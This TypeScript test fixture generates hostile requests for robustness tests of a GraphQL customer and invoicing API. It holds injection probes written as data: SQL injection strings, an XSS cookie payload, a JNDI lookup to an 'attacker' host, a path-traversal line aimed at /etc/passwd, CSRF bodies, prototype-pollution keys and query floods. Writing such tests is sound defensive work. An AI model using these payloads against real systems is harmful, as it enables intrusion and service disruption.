// Requests a hostile or careless client might send. Each must get a clear error, never a crash,
// a 5xx or a stack trace, and none may change the database.

export interface HostileRequest {
  name: string;
  /** A string is sent as is; anything else as JSON. */
  body: unknown;
  headers?: Record<string, string>;
  /** Send without the API key. */
  anonymous?: boolean;
  method?: 'POST' | 'GET';
  query?: string;
}

const injections = [
  `'; DROP TABLE "Customer"; --`,
  `' OR '1'='1`,
  `"; SELECT pg_sleep(10); --`,
  `<script>alert(document.cookie)</script>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'null\u0000byte',
  '%27%20OR%201%3D1',
  '\u202e\u0301\u200b',
  'A'.repeat(5_000),
  '😀'.repeat(300),
];

const unknownCustomer = Buffer.from('Customer:00000000-0000-7000-8000-000000000000').toString('base64');
const unknownTerms = Buffer.from('PaymentTerms:00000000-0000-7000-8000-000000000000').toString('base64');
const wrongTypeIds = [
  Buffer.from('ApiKey:00000000-0000-7000-8000-000000000000').toString('base64'),
  Buffer.from('Contact:00000000-0000-7000-8000-000000000000').toString('base64'),
  Buffer.from('PaymentTerms:00000000-0000-7000-8000-000000000000').toString('base64'),
  Buffer.from('Customer:not-a-uuid').toString('base64'),
  Buffer.from('Customer:1 OR 1=1').toString('base64'),
  'not base64 at all !!',
  '',
  'Q3VzdG9tZXI6',
];

const createMutation = `mutation($input: CustomerCreateInput!) { customerCreate(input: $input) { customer { id } userErrors { field code message } } }`;
const updateMutation = `mutation($input: CustomerUpdateInput!) { customerUpdate(input: $input) { customer { id } userErrors { field code message } } }`;
const validInput = { code: 'HOSTILE-1', displayName: 'Hostile', currency: 'RON' };

export function hostileRequests(): HostileRequest[] {
  const cases: HostileRequest[] = [];
  const add = (name: string, body: unknown, extra: Partial<HostileRequest> = {}) =>
    cases.push({ name, body, ...extra });

  // Too deep, too wide, too costly, too big.
  for (const n of [31, 40, 60, 100, 300]) {
    add(`alias flood of ${n}`, {
      query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: viewer { role }`).join(' ')} }`,
    });
  }
  for (const n of [6, 12, 25]) {
    add(`nested invalid fields ${n} deep`, {
      query: `{ ${'customers(first: 1) { edges { node { '.repeat(n)}id${' } } }'.repeat(n)} }`,
    });
  }
  add('cost over the limit', {
    query: `{ ${Array.from({ length: 9 }, (_, i) => `c${i}: customers(first: 100) { edges { node { contacts { name } purchaseTerms { paymentTerms { name } priceList { name } } } } }`).join(' ')} }`,
  });
  add('document over the token limit', { query: `{ viewer { ${'role '.repeat(6_000)} } }` });
  add('a 1 MB document', { query: `{ viewer { role } } #${'x'.repeat(1_048_576)}` });
  add('1 MB of variables', { query: '{ viewer { role } }', variables: { junk: 'x'.repeat(1_048_576) } });
  add(
    'deeply nested variables',
    `{"query": "query($v: [String]) { viewer { role } }", "variables": {"v": ${'['.repeat(5_000)}${']'.repeat(5_000)}}}`,
  );

  // Fragment cycles and broken fragments.
  add('fragment self-cycle', { query: 'query { ...A } fragment A on Query { ...A }' });
  add('fragment two-cycle', {
    query: 'query { ...A } fragment A on Query { viewer { role } ...B } fragment B on Query { ...A }',
  });
  add('fragment three-cycle', {
    query: 'query { ...A } fragment A on Query { ...B } fragment B on Query { ...C } fragment C on Query { ...A }',
  });
  add('unknown fragment', { query: 'query { ...Nope }' });
  add('fragment on wrong type', { query: 'query { ...A } fragment A on Customer { id }' });
  add('fragment fan-out cycle', {
    query: `query { ...F0 } ${Array.from({ length: 10 }, (_, i) => `fragment F${i} on Query { ...F${(i + 1) % 10} viewer { role } }`).join(' ')}`,
  });

  // Page sizes.
  for (const [arg, value] of [
    ['first', 101],
    ['first', 1000],
    ['first', 2147483647],
    ['first', -1],
    ['last', 101],
    ['last', -100],
  ] as const) {
    add(`${arg}: ${value} literal`, { query: `{ customers(${arg}: ${value}) { totalCount } }` });
    add(`${arg}: ${value} in a variable`, {
      query: `query($n: Int) { customers(${arg}: $n) { totalCount } }`,
      variables: { n: value },
    });
  }
  add('first beyond Int range', { query: '{ customers(first: 99999999999) { totalCount } }' });
  add('first and before together', { query: '{ customers(first: 2, before: "abc") { totalCount } }' });
  add('garbage cursor', { query: '{ customers(first: 2, after: "💣") { edges { node { id } } } }' });

  // Malformed requests.
  const raw = (name: string, body: string, headers: Record<string, string> = {}) => add(name, body, { headers });
  raw('truncated JSON', '{"query": "{ viewer { role } }"');
  raw('JSON null', 'null');
  raw('JSON number', '42');
  raw('JSON string', '"{ viewer { role } }"');
  raw('empty body', '');
  raw('array of strings', '["{ viewer { role } }"]');
  raw('batched operations', JSON.stringify([{ query: '{ viewer { role } }' }, { query: '{ viewer { role } }' }]));
  raw('query is a number', '{"query": 12}');
  raw('query is an object', '{"query": {"a": 1}}');
  raw('query missing', '{"variables": {}}');
  raw('variables is a string', '{"query": "{ viewer { role } }", "variables": "x"}');
  raw('variables is an array', '{"query": "{ viewer { role } }", "variables": [1]}');
  raw('extensions is a string', '{"query": "{ viewer { role } }", "extensions": "x"}');
  raw('operationName does not match', '{"query": "query A { viewer { role } }", "operationName": "B"}');
  raw('two operations, no name', '{"query": "query A { viewer { role } } query B { viewer { role } }"}');
  raw('invalid UTF-8', Buffer.from([0x7b, 0x22, 0x71, 0xff, 0xfe, 0x7d]).toString('latin1'));
  raw(
    'text/plain body (CSRF)',
    '{"query": "mutation { customerDelete(input: {id: \\"x\\"}) { userErrors { code } } }"}',
    { 'content-type': 'text/plain' },
  );
  raw('form body (CSRF)', 'query=%7B%20viewer%20%7B%20role%20%7D%20%7D', {
    'content-type': 'application/x-www-form-urlencoded',
  });
  raw('syntax error', '{"query": "{ viewer { role "}');
  raw('unterminated string', '{"query": "{ customer(id: \\"abc) { id } }"}');
  raw('NUL in document', JSON.stringify({ query: '{ viewer\u0000 { role } }' }));
  raw(
    'prototype pollution keys',
    JSON.stringify({ query: createMutation }).slice(0, -1) +
      ', "variables": {"input": {"__proto__": {"admin": true}, "code": "P", "displayName": "P", "currency": "RON", "constructor": {"prototype": {"x": 1}}}}}',
  );
  raw(
    'duplicate keys',
    '{"query": "{ viewer { role } }", "query": "mutation { customerDelete(input: {id: \\"x\\"}) { userErrors { code } } }"}',
  );
  add('GET mutation', undefined, {
    method: 'GET',
    query: `?query=${encodeURIComponent('mutation { customerDelete(input: { id: "x" }) { userErrors { code } } }')}`,
  });
  add('GET with garbage query string', undefined, {
    method: 'GET',
    query: '?query=%7B%7B%7B',
    headers: { 'apollo-require-preflight': 'true' },
  });

  // Authentication.
  add('no key', { query: createMutation, variables: { input: validInput } }, { anonymous: true });
  for (const header of [
    'Bearer',
    'Bearer ck_short',
    'Basic YWRtaW46YWRtaW4=',
    `bearer ${'x'.repeat(5000)}`,
    `Bearer ck_AAAAAAAAAAAA_${'B'.repeat(32)}`,
    "Bearer ' OR 1=1 --",
  ]) {
    add(
      `authorization "${header.slice(0, 30)}"`,
      { query: createMutation, variables: { input: validInput } },
      { anonymous: true, headers: { authorization: header } },
    );
  }

  // Wrong types and shapes.
  const wrongInputs: [string, unknown][] = [
    ['input missing', undefined],
    ['input null', null],
    ['input a string', 'customer'],
    ['input an array', [validInput]],
    ['code a number', { ...validInput, code: 42 }],
    ['displayName an object', { ...validInput, displayName: { $ne: '' } }],
    ['kind not in enum', { ...validInput, kind: 'ROBOT' }],
    ['kind lower case', { ...validInput, kind: 'company' }],
    ['unknown field', { ...validInput, isAdmin: true }],
    ['tags an object', { ...validInput, tags: { vip: true } }],
    ['tags with a number', { ...validInput, tags: ['ok', 7] }],
    ['contacts not objects', { ...validInput, contacts: ['Ion'] }],
    ['contact without name', { ...validInput, contacts: [{ email: 'a@b.ro' }] }],
    ['credit limit a float', { ...validInput, purchaseTerms: { creditLimit: 0.1 } }],
    ['credit limit NaN text', { ...validInput, purchaseTerms: { creditLimit: 'NaN' } }],
    ['credit limit Infinity', { ...validInput, purchaseTerms: { creditLimit: 'Infinity' } }],
    ['credit limit exponent', { ...validInput, purchaseTerms: { creditLimit: '1e400' } }],
    ['credit limit negative', { ...validInput, purchaseTerms: { creditLimit: '-0.01' } }],
    ['credit limit too precise', { ...validInput, purchaseTerms: { creditLimit: '1.001' } }],
    ['credit limit absurd', { ...validInput, purchaseTerms: { creditLimit: '9'.repeat(40) } }],
    ['payment method not in enum', { ...validInput, purchaseTerms: { defaultPaymentMethod: 'BITCOIN' } }],
    ['unknown payment terms', { ...validInput, purchaseTerms: { paymentTermsId: unknownTerms } }],
    ['payment terms id of a customer', { ...validInput, purchaseTerms: { paymentTermsId: unknownCustomer } }],
    ['price list garbage', { ...validInput, purchaseTerms: { priceListId: '💣' } }],
    ['currency lower-case nonsense', { ...validInput, currency: 'abc' }],
    ['currency too long', { ...validInput, currency: 'EURO' }],
    ['currency missing', { code: 'X', displayName: 'X' }],
    ['empty code', { ...validInput, code: '' }],
    ['code too long', { ...validInput, code: 'C'.repeat(100) }],
    ['code with SQL', { ...validInput, code: 'X\'; DROP TABLE "Customer"; --' }],
    ['country three letters', { ...validInput, billingAddress: { country: 'ROU' } }],
    ['country numeric', { ...validInput, billingAddress: { country: '642' } }],
    [
      'two primary contacts',
      {
        ...validInput,
        contacts: [
          { name: 'A', isPrimary: true },
          { name: 'B', isPrimary: true },
        ],
      },
    ],
    ['51 contacts', { ...validInput, contacts: Array.from({ length: 51 }, (_, i) => ({ name: `C${i}` })) }],
    ['21 tags', { ...validInput, tags: Array.from({ length: 21 }, (_, i) => `t${i}`) }],
    ['display name 201 chars', { ...validInput, displayName: 'D'.repeat(201) }],
    ['notes too long', { ...validInput, notes: 'N'.repeat(5_001) }],
  ];
  for (const [name, input] of wrongInputs)
    add(`customerCreate: ${name}`, { query: createMutation, variables: input === undefined ? {} : { input } });

  // Injection strings in every text input whose format is checked: each is refused as a user error.
  const checkedFields: [string, (value: string) => Record<string, unknown>][] = [
    ['email', (v) => ({ email: v })],
    ['phone', (v) => ({ phone: v })],
    ['website', (v) => ({ website: `javascript:${v}` })],
    ['currency', (v) => ({ currency: v })],
    ['billing country', (v) => ({ billingAddress: { country: v } })],
    ['shipping country', (v) => ({ shippingAddress: { country: v } })],
    ['contact email', (v) => ({ contacts: [{ name: 'X', email: v }] })],
    ['contact phone', (v) => ({ contacts: [{ name: 'X', phone: v }] })],
    ['payment terms id', (v) => ({ purchaseTerms: { paymentTermsId: v } })],
    ['price list id', (v) => ({ purchaseTerms: { priceListId: v } })],
    ['code', (v) => ({ code: v })],
  ];
  for (const [field, build] of checkedFields) {
    for (const injection of injections.slice(0, 9)) {
      add(`customerCreate ${field} = ${JSON.stringify(injection).slice(0, 30)}`, {
        query: createMutation,
        variables: { input: { ...validInput, ...build(injection) } },
      });
    }
  }

  // Unknown ids of every type, ids of another type, in every place that takes an id.
  for (const id of [unknownCustomer, ...wrongTypeIds]) {
    add(`customerUpdate id ${id.slice(0, 16)}`, {
      query: updateMutation,
      variables: { input: { id, displayName: 'Changed' } },
    });
    for (const mutation of ['customerArchive', 'customerRestore', 'customerDelete']) {
      add(`${mutation} id ${id.slice(0, 16)}`, {
        query: `mutation($id: ID!) { ${mutation}(input: { id: $id }) { userErrors { field code message } } }`,
        variables: { id },
      });
    }
    add(`apiKeyRevoke id ${id.slice(0, 16)}`, {
      query: 'mutation($id: ID!) { apiKeyRevoke(input: { id: $id }) { userErrors { field code message } } }',
      variables: { id },
    });
  }
  for (const id of [unknownCustomer, ...wrongTypeIds.slice(0, 4)]) {
    const short = id.slice(0, 12);
    add(`invoiceIssue id ${short}`, {
      query: 'mutation($id: ID!) { invoiceIssue(input: { id: $id }) { userErrors { code } } }',
      variables: { id },
    });
    add(`invoiceVoid id ${short}`, {
      query: 'mutation($id: ID!) { invoiceVoid(input: { id: $id, reason: "x" }) { userErrors { code } } }',
      variables: { id },
    });
    add(`invoiceLineAdd invoice ${short}`, {
      query:
        'mutation($id: ID!) { invoiceLineAdd(input: { invoiceId: $id, line: { description: "x", quantity: "1", unitPrice: "1" } }) { userErrors { code } } }',
      variables: { id },
    });
    add(`invoiceCreateDraft customer ${short}`, {
      query: 'mutation($id: ID!) { invoiceCreateDraft(input: { customerId: $id }) { userErrors { code } } }',
      variables: { id },
    });
    add(`contractActivate id ${short}`, {
      query: 'mutation($id: ID!) { contractActivate(input: { id: $id }) { userErrors { code } } }',
      variables: { id },
    });
    add(`contractCreate customer ${short}`, {
      query:
        'mutation($id: ID!) { contractCreate(input: { customerId: $id, number: "H-1", title: "x", startDate: "2026-01-01" }) { userErrors { code } } }',
      variables: { id },
    });
    add(`priceListAddPrices list ${short}`, {
      query:
        'mutation($id: ID!) { priceListAddPrices(input: { priceListId: $id, prices: [] }) { userErrors { code } } }',
      variables: { id },
    });
    add(`itemUpdate id ${short}`, {
      query: 'mutation($id: ID!) { itemUpdate(input: { id: $id, name: "x" }) { userErrors { code } } }',
      variables: { id },
    });
    add(`priceQuote customer ${short}`, {
      query: 'query($id: ID!) { priceQuote(input: { customerId: $id, lines: [] }) { userErrors { code } } }',
      variables: { id },
    });
  }
  for (const amount of ['0', '-1', '0.001', 'NaN', '1e3']) {
    add(`paymentRecord amount ${amount}`, {
      query:
        'mutation($id: ID!, $a: Decimal!) { paymentRecord(input: { customerId: $id, amount: $a, method: CASH }) { userErrors { code } } }',
      variables: { id: unknownCustomer, a: amount },
    });
    add(`refundRecord amount ${amount}`, {
      query:
        'mutation($id: ID!, $a: Decimal!) { refundRecord(input: { customerId: $id, amount: $a, method: CASH }) { userErrors { code } } }',
      variables: { id: unknownCustomer, a: amount },
    });
  }
  for (const id of [unknownCustomer, ...wrongTypeIds.slice(0, 3)]) {
    add(`paymentVoid id ${id.slice(0, 12)}`, {
      query: 'mutation($id: ID!) { paymentVoid(input: { paymentId: $id, reason: "x" }) { userErrors { code } } }',
      variables: { id },
    });
    add(`creditNoteIssue invoice ${id.slice(0, 12)}`, {
      query:
        'mutation($id: ID!) { creditNoteIssue(input: { invoiceId: $id, reason: "x", amount: "1" }) { userErrors { code } } }',
      variables: { id },
    });
    add(`allocationMove ${id.slice(0, 12)}`, {
      query:
        'mutation($id: ID!) { allocationMove(input: { allocationId: $id, toInvoiceId: $id }) { userErrors { code } } }',
      variables: { id },
    });
    add(`creditApply source ${id.slice(0, 12)}`, {
      query: 'mutation($id: ID!) { creditApply(input: { sourceId: $id, allocations: [] }) { userErrors { code } } }',
      variables: { id },
    });
  }
  add('invoice quantity as a float', {
    query:
      'mutation { invoiceCreateDraft(input: { customerId: "x", lines: [{ description: "x", quantity: 1.5, unitPrice: "1" }] }) { userErrors { code } } }',
  });
  add('invoice date not a date', {
    query:
      'mutation { invoiceCreateDraft(input: { customerId: "x", issueDate: "2026-02-30" }) { userErrors { code } } }',
  });
  add('contract date garbage', {
    query:
      'mutation { contractCreate(input: { customerId: "x", number: "x", title: "x", startDate: "yesterday" }) { userErrors { code } } }',
  });
  add('sort field unknown', { query: '{ invoices(orderBy: { field: AMOUNT_DUE }) { totalCount } }' });

  // Free-text fields are stored verbatim; changing an unknown customer with them changes nothing.
  for (const field of ['displayName', 'legalName', 'taxId', 'notes']) {
    for (const injection of injections) {
      add(`customerUpdate of an unknown customer, ${field} = ${JSON.stringify(injection).slice(0, 24)}`, {
        query: updateMutation,
        variables: { input: { id: unknownCustomer, [field]: injection } },
      });
    }
  }
  // Invalid queries against the schema.
  for (const query of [
    '{ nope }',
    '{ customer { id } }',
    '{ customer(id: 1) { secretField } }',
    '{ customers(first: "ten") { totalCount } }',
    '{ customers(filter: { status: [DELETED] }) { totalCount } }',
    '{ customers(orderBy: { field: PASSWORD }) { totalCount } }',
    '{ __typename @skip }',
    '{ viewer { role } } extra',
    'subscription { customerChanged { change } }',
    'mutation { customerCreate { customer { id } } }',
    '{ viewer { role @include(if: "yes") } }',
    '{ node(id: null) { id } }',
  ]) {
    add(`invalid query ${query.slice(0, 40)}`, { query });
  }
  return cases;
}
